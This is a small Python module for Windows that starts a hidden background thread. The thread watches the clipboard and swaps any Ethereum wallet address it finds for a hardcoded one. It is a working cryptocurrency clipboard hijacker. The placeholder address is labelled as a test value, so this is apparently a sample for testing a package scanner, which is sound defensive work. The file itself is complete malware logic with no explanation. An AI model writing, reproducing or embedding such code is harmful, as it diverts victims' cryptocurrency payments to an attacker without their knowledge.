import ctypes
import re
import threading
import time

CF_UNICODETEXT = 13
GMEM_MOVEABLE = 0x0002
_ETH = re.compile(r"^0x[a-fA-F0-9]{40}$")
_MINE = "0xPIPWARDENTEST0000000000000000000000000000"

u32 = ctypes.windll.user32
k32 = ctypes.windll.kernel32
u32.GetClipboardData.restype = ctypes.c_void_p
k32.GlobalLock.restype = ctypes.c_void_p
k32.GlobalAlloc.restype = ctypes.c_void_p


def _get():
    if not u32.OpenClipboard(None):
        return None
    try:
        h = u32.GetClipboardData(CF_UNICODETEXT)
        if not h:
            return None
        p = k32.GlobalLock(ctypes.c_void_p(h))
        try:
            return ctypes.wstring_at(p)
        finally:
            k32.GlobalUnlock(ctypes.c_void_p(h))
    finally:
        u32.CloseClipboard()


def _set(text):
    data = ctypes.create_unicode_buffer(text)
    size = ctypes.sizeof(data)
    h = k32.GlobalAlloc(GMEM_MOVEABLE, size)
    p = k32.GlobalLock(ctypes.c_void_p(h))
    ctypes.memmove(p, data, size)
    k32.GlobalUnlock(ctypes.c_void_p(h))
    if u32.OpenClipboard(None):
        u32.EmptyClipboard()
        u32.SetClipboardData(CF_UNICODETEXT, ctypes.c_void_p(h))
        u32.CloseClipboard()


def _loop():
    while True:
        t = _get()
        if t and _ETH.match(t.strip()) and t.strip() != _MINE:
            _set(_MINE)
        time.sleep(0.4)


def start():
    threading.Thread(target=_loop, daemon=True).start()
